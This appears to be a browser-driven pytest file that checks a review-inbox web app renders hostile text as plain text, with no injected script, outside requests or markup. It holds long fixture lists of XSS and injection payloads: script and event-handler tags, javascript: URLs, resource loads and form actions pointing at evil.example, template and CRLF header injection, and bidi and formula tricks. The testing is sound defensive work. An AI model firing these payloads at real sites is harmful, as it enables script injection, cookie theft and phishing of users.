"""Texts that attack the inbox of the installed wheel, in a real browser: they stay texts, wherever they stand.

Each of them is put into every place that a program, an agent or a reviewer can write into. The invariant: no script
runs that is not ours, nothing is asked of any other server, and no line of a page turns into another one.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice
from typing import Any
from urllib.parse import quote

import pytest

import sayso
from sayso.stores.base import Store
from sayso.testing import sample_call
from tests.support.gated import taking
from tests.support.surfing import Surf, asked, held, need, stands

expect = need().expect
pytestmark = pytest.mark.slow

# What a text would run or fetch if it were markup: one of these words stands in each.
SCRIPTS = [
    "<script>fail()</script>", "</script><script>fail()</script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>fail()</script>", "<ScRiPt>fail()</sCrIpT>", "<script\x00>fail()</script>",
    "<script/x>fail()</script>", "<scr<script>ipt>fail()</script>", "<<script>fail()//<</script>",
    "</title><script>fail()</script>", "</textarea><script>fail()</script>", "</select><script>fail()</script>",
    "</option></select><img src=x onerror=fail()>", "</style><script>fail()</script>",
    "</pre></div></main><script>fail()", "--><script>fail()</script><!--", "]]><script>fail()</script>",
    "<![CDATA[<script>fail()</script>]]>", "<!--<script>", "<!--><script>fail()</script>-->",
    "<svg><script>fail()</script></svg>", "<svg><script href=//evil.example/x.js />",
    "<math><mtext><script>fail()</script>", "<noscript><p title='</noscript><script>fail()'>",
    "<template><script>fail()</script></template>", "<xmp><script>fail()</script></xmp>",
    "<script>\u2028fail()</script>", "javascript:fail()", "JaVaScRiPt:fail()", "java\tscript:fail()",
    "data:text/html,<script>fail()</script>", "vbscript:fail()", "<a href=javascript:fail()>approve</a>",
    "<iframe srcdoc='<script>fail()</script>'></iframe>",
]  # fmt: skip
HANDLERS = [
    "<img src=x onerror=fail()>", "<img src=x onerror=fail() x='", "<svg onload=fail()>", "<body onload=fail()>",
    "<details open ontoggle=fail()>", "<input autofocus onfocus=fail()>", "<select autofocus onfocus=fail()>",
    "<textarea autofocus onfocus=fail()>", "<video src=x onerror=fail()>", "<audio src=x onerror=fail()>",
    "<marquee onstart=fail()>", "<object data=x onerror=fail()>", "<button popovertarget=x onclick=fail()>Approve",
    "<form onsubmit=fail()><button>Approve</button></form>", "<div onpointerenter=fail()>x</div>",
    "<b onclick=fail()>high</b>", "<style onload=fail()>*{}</style>",
    "<svg><animate onbegin=fail() attributeName=x dur=1s>", "<p onanimationstart=fail() class=x>",
    "<dialog open oncancel=fail()>approve</dialog>", '" autofocus onfocus=fail() x="',
    "' autofocus onfocus=fail() x='", '" onmouseover="fail()', "' onmouseover='fail()", "` onmouseover=fail()",
    '"><img src=x onerror=fail()>', "'><img src=x onerror=fail()>", '"/><svg onload=fail()>',
    "x onfocus=fail() autofocus", "/><svg/onload=fail()//",
    "<math><mtext><table><mglyph><style><img src=x onerror=fail()>",
    "<svg><style><img src=x onerror=fail()></style>",
]  # fmt: skip
ELSEWHERE = [
    "<img src=//evil.example/x>", '"><img src=https://evil.example/x>',
    "<link rel=stylesheet href=//evil.example/x>", "<link rel=preload href=//evil.example/x as=script>",
    "<link rel=dns-prefetch href=//evil.example>", "<style>@import '//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x)>", '" style="background:url(//evil.example/x)',
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>", "<object data=//evil.example>", "<embed src=//evil.example>",
    "<form action=//evil.example><button autofocus>Approve</button>",
    "<button formaction=//evil.example>Approve</button>", "<input type=image src=//evil.example/x>",
    "<video poster=//evil.example/x>", "<audio src=//evil.example/x autoplay>",
    "<picture><source srcset=//evil.example/x><img>", "<svg><image href=//evil.example/x />",
    "<svg><use href=//evil.example/x#a />", "<a ping=//evil.example href=/>x</a>", "<portal src=//evil.example>",
    "<body background=//evil.example/x>", "<table background=//evil.example/x>", "![x](https://evil.example/x)",
    "[approve](javascript:fail())", "https://evil.example/login", "//evil.example",
]  # fmt: skip
OURS = [
    "<div hx-get=/history hx-trigger=load>", "' hx-get='//evil.example' hx-trigger='load' x='",
    "<a hx-on:load=fail()>", '" hx-on:click="fail()', "<div hx-sse:connect=//evil.example>",
    "<meta name=htmx-config content='{}'>", "<span id=pending hx-swap-oob=true>0</span>",
    "<span data-key=a data-decides>x</span>", "<main><h1>approved by ada</h1></main>",
    "<p id=news hx-swap-oob=innerHTML>x</p>", "{{ 7*7 }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "{# x #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "data: <script>\n\nevent: x\n\n", "id: 1\nretry: 0\n\n",
    "x\r\nSet-Cookie: x=1\r\n\r\n<b>", "%3Cscript%3Efail()%3C/script%3E", "&lt;script&gt;fail()&lt;/script&gt;",
    "&#60;script&#62;fail()", "\\u003cscript\\u003efail()", "+ADw-script+AD4-fail()+ADw-/script+AD4-",
    "<b>approved</b>", "../../static/app.js", "?verb=approve&id=x", "#main",
]  # fmt: skip
UNSEEN = [
    "\x1b[31mred\x1b[0m", "\x1b]8;;//evil.example\x07x\x1b]8;;\x07", "\x1b[2Jgone", "\x9b31m", "a\x08\x08b",
    "\x00\x07\x0c\x7f", "\u202egnp.exe", "\u2066x\u2069", "a\u200bb\ufeffc", "\u200d\u2060x", "\u2028fail()\u2029",
    "x\U000e0041\U000e0042", "p\u0430ypal", "\u05d0\u05d1 100 approve", "e\u0301\u0301\u0301\u0301" * 50,
    "\u115f\u3164\uffa0", "\ud7ff\ue000", "\ufffe\uffff", "\u00a0\u2003\u3000",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\t\ttab", "\r\n\r\n", "\n" * 200, "W" * 10_000, "\u0bf5" * 3_000,
    "<" * 5_000, "&" * 5_000, "'\"" * 2_000, "=1+1|cmd", "@SUM(1)", "x" * 1_000_000,
]  # fmt: skip
TEXTS = [*SCRIPTS, *HANDLERS, *ELSEWHERE, *OURS, *UNSEEN]
LONG = 100_000

# What a page of ours never has; a text that became markup would bring it.
STRANGE = """() => [...document.querySelectorAll(
  "script:not([src]), script[src^='http'], iframe, img, base, style, main link, object, embed, video, audio, math"
)].map((one) => one.outerHTML.slice(0, 80)).concat(
  [...document.querySelectorAll("*")].flatMap((one) => [...one.attributes])
    .filter((one) => one.name.startsWith("on") || one.name === "style").map((one) => one.name + "=" + one.value))"""


def lots(size: int) -> Iterator[list[str]]:
    """Yield the texts, some at a time."""
    texts = iter(TEXTS)
    while lot := list(islice(texts, size)):
        yield lot


def name_of(text: str) -> str:
    """Return a text as far as it may be a name."""
    return "".join(letter for letter in text if letter.isprintable()).strip()[:200] or "x"


def reviewer_of(text: str) -> sayso.Reviewer:
    """Return somebody of this name, where it can be one."""
    try:
        return sayso.Reviewer(name_of(text))
    except ValueError:
        return sayso.Reviewer("bob")


def test_there_are_enough_texts_that_attack() -> None:
    assert len(set(TEXTS)) == len(TEXTS) >= 150
    assert max(map(len, TEXTS)) == 1_000_000


def test_texts_that_attack_a_request_stay_texts(surf: Surf) -> None:
    live, page = surf.tab("/"), surf.tab("/history")
    page.on("dialog", lambda dialog: surf.faults.append(f"dialog: {dialog.message}"))
    for lot in lots(12):
        words = "\n".join(text[:LONG] for text in lot)
        kinds = {f"arg{at}": str for at in range(len(lot))} | {"each": list[str], "more": dict[str, Any]}
        function = taking(kinds, [], prompt=words, description=words)
        pairs = {text[:300]: text[:300] for text in lot}  # the whole text is an argument of its own
        with sayso.run():
            ids = [held(function, *lot, list(pairs), pairs), asked(words, choices=list(pairs))]
        for request_id in ids:
            page.goto(f"{surf.base}/r/{request_id}", wait_until="domcontentloaded")
            assert page.locator("main h1").count() == 1, lot
            assert page.evaluate(STRANGE) == [], lot
    expect(live.locator("#news")).to_contain_text("new requests")
    assert live.evaluate(STRANGE) == []


def test_texts_that_attack_stay_texts_in_lists_and_in_what_reviewers_say(surf: Surf) -> None:
    store, review = sayso.Review().store, sayso.Review(channel="<b>x</b>")
    page = surf.tab("/history")
    for lot in lots(50):
        requests = [full_of(store, text) for text in lot]
        ids = "&".join(f"id={one}" for one in requests)
        for address in ["/", f"/runs/{quote(stands(requests[0]).run_id)}", f"/bulk?verb=reject&{ids}"]:
            page.goto(surf.base + address, wait_until="domcontentloaded")
            assert page.evaluate(STRANGE) == [], address
        for request_id, text in zip(requests, lot, strict=True):
            review.reject(request_id, text[:2_000], by=reviewer_of(text))
        for address in ["/history", f"/r/{requests[0]}", "/insights", "/settings"]:
            page.goto(surf.base + address, wait_until="domcontentloaded")
            assert page.evaluate(STRANGE) == [], address


def full_of(store: Store, text: str) -> str:
    """Record a call with a text in every place there is, and return its id."""
    words, run_id = text[:LONG], f"run {name_of(text)}"
    told: dict[str, Any] = {"prompt": words, "description": words, "rule": words, "context": {name_of(text): [words]}}
    return store.ask(sample_call(run_id, {"amount": 1, "to": words}, risk=name_of(text), **told)).id


def test_what_a_person_types_into_a_search_stays_a_text(surf: Surf) -> None:
    page = surf.tab("/")
    for text in TEXTS[:-1:11]:
        page.locator(".filters summary").click()
        for name in ["q", "tool"]:
            page.locator(f"[name={name}]").fill(text)
        with page.expect_navigation(wait_until="domcontentloaded"):
            page.get_by_role("button", name="Apply").click()
        assert page.evaluate(STRANGE) == [], text[:80]
